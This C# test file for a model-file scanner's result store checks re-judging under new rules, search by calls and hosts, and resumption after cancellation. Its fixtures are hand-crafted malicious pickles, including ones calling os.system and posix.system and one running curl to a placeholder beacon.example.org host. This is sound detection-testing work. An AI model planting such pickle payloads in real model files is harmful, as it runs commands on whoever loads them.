// What a store holds is judged again without its bytes, and found by what it does.
using System.Text;
using Assay.Store.Judging;

namespace Assay.Store.Tests.Judging;

public sealed class RetroJudgeTests(PostgresServer server) : StoreTests(server)
{
    private const string OfCallables = """
        rules:
        - id: own-counter
          title: A counter
          severity: medium
          confidence: high
          when: {callable: {name: collections.OrderedDict}}
          why: "The house takes no counters."
          fix: "Take it out."
        """;

    [Theory]
    [MemberData(nameof(Kinds))]
    public void NewRulesConcernThoseThatTheyCanFit(Kind kind)
    {
        string store = Filled(kind);
        Tree.Add("rules/own.yaml", OfCallables);
        File.Delete(Path.Join(Models, "counter.pkl"));
        Said said = Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
        Assert.Equal(1, said.Code);
        Assert.Contains("own-counter", said.Output, StringComparison.Ordinal);
        Assert.Contains("1 are judged otherwise, 1 of them worse", said.Output, StringComparison.Ordinal);
        using (ModelStore open = Open(store))
        {
            Assert.Equal(1, open.Connection.Number("SELECT count(*) FROM alerts"));
        }

        // What was judged is told once, and a scan by these rules takes it from memory.
        Said again = Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
        Assert.Equal(0, again.Code);
        Assert.DoesNotContain("own-counter", again.Output, StringComparison.Ordinal);
        Put("counter.pkl", Counter);
        Said scanned = Command.Run("scan", Models, "--rules", Tree["rules"], "--format", "json", "--store=" + store);
        Assert.Contains("4 of 4 from memory", scanned.Error, StringComparison.Ordinal);
        Assert.Equal(Command.Run("scan", Models, "--rules", Tree["rules"], "--format", "json").Output, scanned.Output);
    }

    [Fact]
    public void RulesThatAreGoneNoLongerCount()
    {
        string store = Filled(Kind.Sqlite);
        Tree.Add("rules/own.yaml", OfCallables);
        Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
        Said said = Command.Run("store", "judge", "--store=" + store);
        Assert.Equal(0, said.Code);
        Assert.Equal(Command.Run("scan", Models, "--format", "json").Output, Command.Run("scan", Models, "--format", "json", "--store=" + store).Output);
    }

    [Theory]
    [MemberData(nameof(Kinds))]
    public void ModelsAreFoundByWhatTheyCallNameAndHold(Kind kind)
    {
        Put("tool.py", "import subprocess\ndef f():\n    subprocess.run(['ls'])\n"u8);
        Put("twin.pkl", "cposix\nsystem\n(S'echo canary'\ntR."u8);
        Put("walk.pkl", [0x80, 4, 0x8C, 7, .. "pathlib"u8, 0x8C, 9, .. "os.system"u8, 0x93, 0x8C, 1, (byte)'x', 0x85, (byte)'R', (byte)'.']);
        string store = Filled(kind);
        Assert.Contains("hostile.pkl", Find("--calls", "os.system"), StringComparison.Ordinal);
        Assert.Contains("twin.pkl", Find("--calls", "os.system"), StringComparison.Ordinal);
        Assert.Contains("walk.pkl", Find("--calls", "os.sys*"), StringComparison.Ordinal);
        Assert.DoesNotContain("hostile.pkl", Find("--calls", "posix.sys*"), StringComparison.Ordinal);
        Assert.Contains("twin.pkl", Find("--calls", "posix.system"), StringComparison.Ordinal);
        Assert.Contains("tool.py", Find("--calls", "subprocess.*"), StringComparison.Ordinal);
        Assert.Contains("tool.py", Find("--calls", "subprocess.run"), StringComparison.Ordinal);
        Assert.DoesNotContain("tool.py", Find("--calls", "os.*"), StringComparison.Ordinal);
        Assert.Contains("counter.pkl", Find("--calls", "collections.*"), StringComparison.Ordinal);
        Assert.DoesNotContain("hostile.pkl", Find("--calls", "collections.*"), StringComparison.Ordinal);
        Assert.Contains("beacon.pkl", Find("--host", "*.example.org"), StringComparison.Ordinal);
        Assert.Contains("good.pkl", Find("--digest", Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(Good))), StringComparison.Ordinal);
        Assert.Equal(3, Command.Run("store", "find", "--calls", "nothing.at.all", "--store=" + store).Code);
        Assert.Equal(4, Command.Run("store", "find", "--store=" + store).Code);

        string Find(params string[] asked) => Command.Run(["store", "find", .. asked, "--store=" + store]).Output;
    }

    private static byte[] Counter => "ccollections\nOrderedDict\n(tR."u8.ToArray();

    private string Filled(Kind kind)
    {
        string store = NewStore(kind);
        Put("good.pkl", Good);
        Put("hostile.pkl", Hostile);
        Put("counter.pkl", Counter);
        Put("beacon.pkl", Encoding.ASCII.GetBytes("cos\nsystem\n(S'curl http://beacon.example.org/x'\ntR."));
        Command.Run("scan", Models, "--store=" + store);
        return store;
    }

    [Theory]
    [MemberData(nameof(Kinds))]
    public void AJudgementThatIsStoppedHasKeptWhatItToldAndTheNextTellsTheRest(Kind kind)
    {
        // More than are judged side by side, twice over.
        const int Many = 1300;
        string store = NewStore(kind);
        for (int i = 0; i < Many; i++)
        {
            Put($"{i}.pkl", Encoding.ASCII.GetBytes($"(lp0\nI{i}\na."));
        }

        Command.Run("scan", Models, "--store=" + store);
        using ModelStore open = Open(store);
        Detection.RuleSet rules = Detection.RuleSet.With([("own.yaml", Rules.Pickles)]);
        List<string> told = [];
        using CancellationTokenSource stop = new();
        Assert.Throws<OperationCanceledException>(() => RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, stop.Token));
        Assert.InRange(told.Count, 600, Many - 1);
        Assert.Equal(told.Count, open.Connection.Number("SELECT count(*) FROM alerts"));

        RetroResult rest = RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, CancellationToken.None);
        Assert.Equal(Many, told.Count);
        Assert.Equal(Many, told.Distinct().Count());
        Assert.Equal(Many, open.Connection.Number("SELECT count(*) FROM alerts"));
        Assert.Equal(Many, rest.Readings);
        Assert.Equal(0, RetroJudge.Of(open, rules, Policies.Policy.None).Run(Tell, CancellationToken.None).Changed);

        void Tell(JudgementChange change)
        {
            told.Add(change.Path);
            if (told.Count == 600)
            {
                stop.Cancel();
            }
        }
    }

    [Theory]
    [MemberData(nameof(Kinds))]
    public void AScanOfOneFileByOtherRulesAndAJudgementThatWasCutShortHideNoChange(Kind kind)
    {
        string store = NewStore(kind);
        for (int i = 0; i < 20; i++)
        {
            Put($"{i}.pkl", System.Text.Encoding.ASCII.GetBytes($"(lp0\nI{i}\na."));
        }

        Command.Run("scan", Models, "--store=" + store);
        Tree.Add("some/own.yaml", Rules.Pickles.Replace("own-pickle", "some-pickle", StringComparison.Ordinal));
        Tree.Add("rules/own.yaml", Rules.Pickles);
        Command.Run("scan", Path.Join(Models, "1.pkl"), "--rules", Tree["some"], "--store=" + store);
        using (ModelStore open = Open(store))
        {
            // What a judgement leaves that is killed before it has judged anything.
            open.Write(c => c.Execute("INSERT INTO rulings (digest, rules, upto, made) SELECT @a, rules, 0, made + 1000000 FROM rulings WHERE id = 2", new byte[32]));
        }

        Said said = Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
        Assert.Equal(1, said.Code);
        Assert.Contains("20 are judged otherwise", said.Output, StringComparison.Ordinal);

        // Back again, which was told before; then the rules that were judged by last are what others are compared with.
        Assert.Equal(0, Command.Run("store", "judge", "--store=" + store).Code);
        Tree.Add("third/own.yaml", Rules.Pickles.Replace("own-pickle", "third-pickle", StringComparison.Ordinal));
        Said third = Command.Run("store", "judge", "--rules", Tree["third"], "--store=" + store);
        Assert.Contains("20 are judged otherwise, 20 of them worse", third.Output, StringComparison.Ordinal);
    }
}
